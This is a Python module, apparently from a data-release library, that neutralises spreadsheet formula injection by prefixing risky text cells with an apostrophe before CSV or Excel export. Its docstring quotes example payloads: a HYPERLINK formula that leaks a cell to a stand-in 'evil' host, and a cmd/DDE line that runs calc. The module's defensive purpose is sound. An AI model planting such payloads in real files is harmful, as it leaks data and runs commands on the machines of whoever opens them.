"""Cells a spreadsheet would run: neutralised before a release is written as CSV or Excel.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil/?"&A1)``,
``+cmd|' /C calc'!A0``, ``@SUM(1+1)*cmd|...``): opened, it can leak other cells or run a
command (OWASP, "CSV Injection"). As OWASP advises, such a cell is written with a leading
apostrophe, which a spreadsheet shows as text. Plain numbers (``-5``, ``+3.2e4``) are left
alone. So that escaping never makes two different values equal (which would change the
release's equivalence classes), a cell that already begins with apostrophes before such a
character gains one more: the escaped release has exactly the classes of the unescaped one.
"""

from __future__ import annotations

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from veil.io._content import arrow_text
from veil.io._files import text_buffers

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
TRIGGERS = "=+-@\t\r"
_RUNS = "^'*[=+\\-@\\t\\r]"
#: ``frame.attrs`` key of a table whose formula cells are escaped (so never escaped twice).
ESCAPED = "veil_formulas_escaped"
_NUMBER = r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$"


def _text_columns(frame: pd.DataFrame) -> list[str]:
    return [
        name
        for name in frame.columns
        if frame[name].dtype == object or pd.api.types.is_string_dtype(frame[name].dtype)
    ]


def escape_formulas(frame: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """``frame`` with every text cell a spreadsheet would run as a formula prefixed by an
    apostrophe, and how many cells were escaped (``frame`` itself is never changed). The
    result is marked (``attrs[ESCAPED]``): escaping it again changes nothing.

    >>> import pandas as pd
    >>> escaped, n = escape_formulas(pd.DataFrame({"note": ["=1+1", "-5", "+1-875-988-3835"]}))
    >>> escaped["note"].tolist(), n
    (["'=1+1", '-5', "'+1-875-988-3835"], 2)
    """
    if frame.attrs.get(ESCAPED):
        return frame, 0  # escaped once already: a second pass would add a second apostrophe
    out = frame
    total = 0
    for name in _text_columns(frame):
        series = frame[name]
        held = arrow_text(series)  # Arrow's own strings: read where they are, no copy
        values = None if held is not None else series.to_numpy(dtype=object)
        text = held if values is None else _strings(values)
        if text is None:
            continue
        hits = _formula_cells(text)
        count = 0 if hits is None else int(hits.sum())
        if not count:
            continue
        if values is None:
            values = series.to_numpy(dtype=object)
        if out is frame:
            out = frame.copy(deep=False)
        escaped = values.copy()
        escaped[hits] = ["'" + v for v in values[hits]]
        out[name] = pd.Series(escaped, index=series.index, name=name, dtype=series.dtype)
        total += count
    if out is frame:
        out = frame.copy(deep=False)
    out.attrs[ESCAPED] = True
    return out, total


def _formula_cells(text: pa.Array | pa.ChunkedArray) -> np.ndarray | None:
    """Which cells of ``text`` a spreadsheet would run (a bool per cell), or None when none
    begins as a formula does: only then are the cells so begun tested for a plain number."""
    if not _may_run(text):
        return None
    runs = pc.fill_null(pc.match_substring_regex(text, _RUNS), False)
    if not pc.any(runs).as_py():
        return None
    hits = pc.and_not(runs, pc.fill_null(pc.match_substring_regex(text, _NUMBER), False))
    return np.asarray(hits.to_numpy(zero_copy_only=False), dtype=bool)


#: the first bytes a cell that runs can begin with (an apostrophe or a trigger: ASCII, so a
#: UTF-8 text's first byte is its first character's)
_FIRST = np.frombuffer(("'" + TRIGGERS).encode(), dtype=np.uint8)


def _may_run(text: pa.Array | pa.ChunkedArray) -> bool:
    """Whether a cell of ``text`` may begin as a formula does, judged on each cell's first
    byte read from Arrow's buffers (a gather over the offsets, where a regular expression
    reads every cell): False only when none can."""
    for chunk in text.chunks if isinstance(text, pa.ChunkedArray) else [text]:
        ends, data = text_buffers(chunk)
        starts = ends[:-1][ends[1:] > ends[:-1]]  # the cells with a first byte
        if np.isin(np.frombuffer(data, dtype=np.uint8)[starts], _FIRST).any():
            return True
    return False


def _strings(values: np.ndarray) -> pa.Array | None:
    """The text cells as Arrow strings (others null), or None when there are none: one
    conversion when the column is all text and gaps, a pass per cell when it mixes types."""
    try:
        return pa.array(values, type=pa.string(), from_pandas=True)
    except (pa.ArrowInvalid, pa.ArrowTypeError):
        is_text = np.fromiter((isinstance(v, str) for v in values), bool, len(values))
        if not is_text.any():
            return None
        return pa.array(
            [v if t else None for v, t in zip(values, is_text, strict=True)], type=pa.string()
        )
